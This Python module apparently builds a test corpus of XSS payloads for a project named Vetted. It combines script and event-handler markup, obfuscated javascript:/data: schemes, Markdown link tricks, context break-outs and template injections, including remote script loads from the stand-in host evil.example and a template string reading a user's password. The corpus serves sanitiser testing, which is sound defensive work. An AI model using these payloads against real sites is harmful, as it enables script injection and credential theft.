"""A hostile corpus of a few hundred XSS payloads, written for this project (same licence as Vetted).

Source: composed here from the usual families of injection (script and
event-handler markup, URL schemes spelled every which way, attribute and
context break-outs, Markdown link/image/reference tricks, entity and Unicode
disguises, template and JSON break-outs) crossed with the places a payload
can sit. Nothing is copied from a published list.
"""

from __future__ import annotations

from itertools import product

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x.js",
    "/\\evil.example",
    "feed:javascript:alert(1)",
]

_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="javascript:alert(1)" onclick="alert(2)">x</a>',
    "<a href='#' style='position:fixed;inset:0'>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<sup id=ref-1 onmouseover=alert(1)>1</sup>",
    '<span data-vetted-cite="x:0"></span>',
    '<h2 id="main" onclick=alert(1)>x</h2>',
    '<a href="#" id="references">hijack</a>',
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
]

_MARKDOWN = [
    "[x]({u})",
    "[x]( {u} )",
    "[x](<{u}>)",
    '[x]({u} "title")',
    "![x]({u})",
    '![x" onerror="alert(1)]({u})',
    "[x][r]\n\n[r]: {u}",
    "[r]\n\n[r]: {u}",
    "<{u}>",
    '[x](#" onmouseover="alert(1))',
    '[@a"><script>alert(1)</script>]',
    "`<script>`{u}",
    "{{: onclick=alert(1) }}",
    "# x {{: onclick=alert(1) }}",
]

_WRAPPERS = [
    "{p}",
    "x {p} y",
    "**{p}**",
    "> {p}",
    "- {p}",
    "| a |\n|---|\n| {p} |",
    "## {p}",
    '"><{p}',
    "'>{p}",
    "{{{{{p}}}}}",
]


def payloads() -> list[str]:
    """Return the corpus: markup and Markdown vectors, each with every URL scheme, in several contexts."""
    items: list[str] = []
    items.extend(_MARKUP)
    for template, scheme in product(_MARKDOWN, _SCHEMES):
        items.append(template.replace("{u}", scheme).replace("{{", "{").replace("}}", "}"))
    for wrapper, vector in product(_WRAPPERS, _MARKUP[:12]):
        items.append(wrapper.replace("{p}", vector).replace("{{", "{").replace("}}", "}"))
    # Template and JSON break-outs for the pages that print text into attributes and JSON-LD.
    items.extend(
        [
            "{{ request.user.password }}",
            "{% debug %}",
            "</script><script>alert(1)</script>",
            '"}]}</script><script>alert(1)</script>',
            "\\u003c/script\\u003e<script>alert(1)</script>",
            "\u2028\u2029<script>alert(1)</script>",
        ]
    )
    return list(dict.fromkeys(items))


PAYLOADS = payloads()
